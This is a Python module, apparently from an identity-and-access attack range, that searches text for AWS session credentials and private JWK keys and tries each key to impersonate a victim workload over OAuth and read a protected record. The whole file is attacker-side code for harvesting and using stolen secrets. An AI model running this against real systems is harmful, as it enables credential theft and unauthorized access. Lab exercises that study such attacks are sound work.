"""A thief's own search: keys and sessions in whatever text it is given, tried one after another."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

from requests_oauth2client import InvalidClient

from iamrange.core.scenario import AwsSession, Loot
from scenarios import oauth

if TYPE_CHECKING:
    from collections.abc import Iterator

    from iamrange.core.scenario import Taken

_OBJECT = re.compile(r"\{[^{}]{20,4000}\}")
_AWS_MEMBER = re.compile(r'"AWS_(ACCESS_KEY_ID|SECRET_ACCESS_KEY|SESSION_TOKEN)": ?"([^"]+)"')
_AWS_SECRET = re.compile(r"[A-Za-z0-9/+]{40}")


def aws_sessions_in(text: str) -> Iterator[AwsSession]:
    """Yield each AWS session in a text once, as it stands in settings of a process."""
    seen: set[str] = set()
    members: dict[str, str] = {}
    for match in _AWS_MEMBER.finditer(text.replace('\\"', '"')):
        members[match[1]] = match[2]
        if len(members) < len(("id", "secret", "token")):
            continue
        found = AwsSession(*(members[name] for name in sorted(members)))
        members = {}
        if found.secret_access_key not in seen:
            seen.add(found.secret_access_key)
            yield found


def is_aws_secret(value: str) -> bool:
    """Tell whether a value has the form of a secret access key."""
    return _AWS_SECRET.fullmatch(value) is not None


def keys_in(text: str) -> Iterator[dict[str, Any]]:
    """Yield each private EC or RSA key (RFC 7517) in a text once, escaped or not."""
    seen: set[str] = set()
    for form in (text, text.replace('\\"', '"')):
        for match in _OBJECT.finditer(form):
            try:
                found = json.loads(match[0])
            except ValueError:
                continue
            if "kty" in found and isinstance(found.get("d"), str) and found["d"] not in seen:
                seen.add(found["d"])
                yield found


def try_each(text: str, foothold: Taken) -> Loot:
    """Use each key that is found as the victim's; come home with a record, or with what is left."""
    knows, useless = foothold.knows, []
    for key in keys_in(text):
        client = oauth.client_with_key(
            knows["victim.spiffe_id"], knows["identity.issuer"], key, dpop_bound_access_tokens=True
        )
        try:
            token = client.client_credentials(
                scope=knows["victim.service_scope"], resource=knows["victim.service"]
            )
        except InvalidClient:
            useless.append(str(key["d"]))
            continue
        return Loot((oauth.read_record(knows["victim.service"] + oauth.RECORD, auth=token),))
    return Loot(tuple(useless))
